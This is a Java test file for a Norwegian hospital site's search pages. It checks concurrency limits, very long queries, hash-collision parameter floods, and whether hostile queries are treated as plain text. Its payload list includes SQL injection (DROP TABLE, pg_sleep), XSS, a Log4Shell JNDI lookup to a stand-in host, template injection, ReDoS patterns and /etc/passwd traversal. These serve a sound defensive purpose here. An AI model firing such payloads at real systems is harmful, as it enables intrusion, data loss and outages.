package no.fnsp.delivery;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import no.fnsp.ExampleInstallation;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Value;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.boot.test.web.server.LocalServerPort;

/** Very many search at once, or for what nobody would look for: everybody is answered, and the log does not fill up. */
@ExampleInstallation
@ExtendWith(OutputCaptureExtension.class)
class FloodOfSearchesTest {

    private static final String BERGEN = "helse-bergen.no";
    private static final int MANY = 1000;

    @LocalServerPort
    int port;

    @Autowired
    Turns turns;

    @Value("${fnsp.searches-at-once}")
    int atOnce;

    FrontDoor door;

    @BeforeEach
    void open() {
        door = new FrontDoor(port);
    }

    @Test
    void a_thousand_at_once_are_all_answered_and_told_of_once(CapturedOutput output) {
        int before = warnings(output);
        List<HttpResponse<String>> answers = allAtOnce(MANY);
        var statuses = answers.stream().collect(Collectors.groupingBy(HttpResponse::statusCode, Collectors.counting()));
        assertThat(statuses.keySet()).isSubsetOf(200, 429, 503);
        assertThat(statuses.get(200)).isPositive();
        answers.stream().filter(answer -> answer.statusCode() != 200).forEach(FloodOfSearchesTest::isAskedToComeBack);
        assertThat(warnings(output) - before).isLessThanOrEqualTo(1);
        assertThat(door.get(BERGEN, "/behandlinger/hofteprotese").status()).isEqualTo(200);
        assertThat(door.get(BERGEN, "/sok?q=hofteprotese").page().select("main li"))
                .isNotEmpty();
    }

    @Test
    void while_all_turns_are_taken_pages_are_read_and_whoever_searches_is_asked_to_come_back(CapturedOutput output) {
        IntStream.range(0, atOnce).forEach(turn -> assertThat(turns.take()).isTrue());
        int before = warnings(output);
        try {
            List<HttpResponse<String>> answers = allAtOnce(30);
            assertThat(answers).allMatch(answer -> answer.statusCode() == 503);
            answers.forEach(FloodOfSearchesTest::isAskedToComeBack);
            assertThat(door.get(BERGEN, "/behandlinger/kneprotese").status()).isEqualTo(200);
            assertThat(warnings(output) - before).isLessThanOrEqualTo(1);
            assertThat(door.get(BERGEN, "/sok/forslag?q=kne", "Accept", "application/json")
                            .body())
                    .contains("\"status\":503");
        } finally {
            IntStream.range(0, atOnce).forEach(turn -> turns.giveBack());
        }
        assertThat(door.get(BERGEN, "/sok?q=kne").status()).isEqualTo(200);
    }

    private static void isAskedToComeBack(HttpResponse<String> answer) {
        assertThat(answer.headers().firstValue("Retry-After").orElse("")).matches("[1-9][0-9]*");
        assertThat(Jsoup.parse(answer.body()).select("h1").text()).startsWith("Det kom for mange f");
    }

    private List<HttpResponse<String>> allAtOnce(int many) {
        try (var client =
                HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build()) {
            var asked = new ArrayList<CompletableFuture<HttpResponse<String>>>();
            for (int i = 0; i < many; i++) {
                var request = HttpRequest.newBuilder(
                                URI.create("http://127.0.0.1:" + port + "/sok?q=hofte+" + Integer.toString(i, 36)))
                        .timeout(Duration.ofMinutes(2))
                        .header("Host", BERGEN)
                        .build();
                asked.add(client.sendAsync(request, HttpResponse.BodyHandlers.ofString()));
            }
            return asked.stream().map(CompletableFuture::join).toList();
        }
    }

    private static int warnings(CapturedOutput output) {
        return (int) output.getAll()
                .lines()
                .filter(line -> line.matches("[0-9:.]+ +(WARN|ERROR) .*"))
                .count();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "' or 1=1; drop table content.edition; --",
                "\"; select pg_sleep(60); --",
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "javascript:alert(1)",
                "😀🤕👩🏽‍⚕️ kne 🦴",
                "🏳️‍🌈",
                "\u202ekne\u202c",
                "k\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301ne",
                "*:* AND (a* OR b*) ~2 ^9",
                "kne^999999999 AND /(.*)*x/",
                "\\u0027{!func}",
                "((((((((((((((((((((((((((((((((((((((((",
                "%{#context}",
                "${jndi:ldap://ond.example/a}",
                "../../../../etc/passwd"
            })
    void what_nobody_would_look_for_is_looked_for_as_words(String words) {
        for (String address : List.of("/sok?q=", "/sok/forslag?q=", "/behandlinger?q=")) {
            var answer = door.get(BERGEN, address + encoded(words));
            assertThat(answer.status()).as(address + words).isEqualTo(200);
            assertThat(answer.body()).doesNotContain("<script>alert", "<img src=x", "Exception", "href=\"javascript");
        }
        String shown = door.get(BERGEN, "/sok?q=" + encoded(words))
                .page()
                .select("main input[name=q]")
                .val();
        assertThat(shown).isEqualTo(words.strip());
    }

    @Test
    void ten_thousand_characters_are_answered_with_a_designed_page() {
        for (String letter : List.of("a", "å", "😀", "kne ", "(", "\"", "a\u0301")) {
            String words = letter.repeat(10_000 / letter.length());
            var answer = door.get(BERGEN, "/sok?q=" + encoded(words));
            assertThat(answer.status()).as(letter).isIn(200, 400, 414);
            assertThat(answer.body()).as(letter).contains("<h1").doesNotContain("Exception", "Tomcat");
        }
    }

    /** "Aa" and "BB" are one number to a table of names that is made badly, and so is every word of them. */
    @Test
    void names_that_fall_in_one_place_of_a_table_are_refused_or_passed_by() throws IOException {
        String flood = IntStream.range(0, 1 << 9)
                .mapToObj(number -> IntStream.range(0, 9)
                        .mapToObj(bit -> (number >> bit & 1) == 0 ? "Aa" : "BB")
                        .collect(Collectors.joining()))
                .collect(Collectors.joining("&"));
        var answer = door.get(BERGEN, "/sok?q=kne&" + flood);
        assertThat(answer.status()).isIn(200, 414);
        assertThat(answer.body()).contains("<h1");
        assertThat(door.get(BERGEN, "/behandlinger?" + flood).status()).isIn(200, 414);
    }

    private static String encoded(String words) {
        return URLEncoder.encode(words, StandardCharsets.UTF_8);
    }
}
